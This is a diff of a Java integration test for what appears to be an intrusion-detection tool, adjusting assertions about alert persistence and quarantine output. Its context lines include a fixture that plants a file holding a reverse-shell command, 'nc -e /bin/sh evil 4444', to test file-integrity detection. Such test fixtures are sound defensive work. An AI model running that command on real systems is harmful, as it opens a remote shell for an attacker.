@@ -93,6 +93,8 @@ class DetectionIT {
         start(DetectionConfig.defaults().withLearningPeriod(Duration.ofSeconds(1)));
         assertThat(cli("detect", "rules").out()).contains("sensor-chatter");
         assertThat(cli("detect", "tuning").out()).contains("good-1").contains("sensor-chatter").contains("limit x2");
+        assertThat(cli("detect", "alerts").out()).as("alerts from before the restart, listed from the store")
+                .contains(alert.details().get("alert_id")).contains("sensor-chatter");
         Cli.Result later = cli("detect", "feedback", alert.details().get("alert_id"), "--benign");
         assertThat(later.out()).as("an alert from before the restart, found in the event store")
                 .contains("rule sensor-chatter is silent for good-1 until");
@@ -217,7 +219,7 @@ class DetectionIT {
         java.nio.file.Files.writeString(tree.resolve("bin/implant"), "#!/bin/sh\nnc -e /bin/sh evil 4444\n");
         Cli.Result changed = Cli.run(check);
         assertThat(changed.exitCode()).as(changed.err()).isEqualTo(3);
-        assertThat(changed.out()).contains("bin/implant appeared").contains("without execute bits");
+        assertThat(changed.out()).contains("bin/implant appeared").contains("(read-only, 0400)");
         assertThat(tree.resolve("bin/implant")).doesNotExist();
         List<SecurityEvent> fim = palisade.controlPlane().events().query(EventQuery.all()).stream()
                 .filter(e -> e.type() == EventType.FILE_MODIFIED).toList();
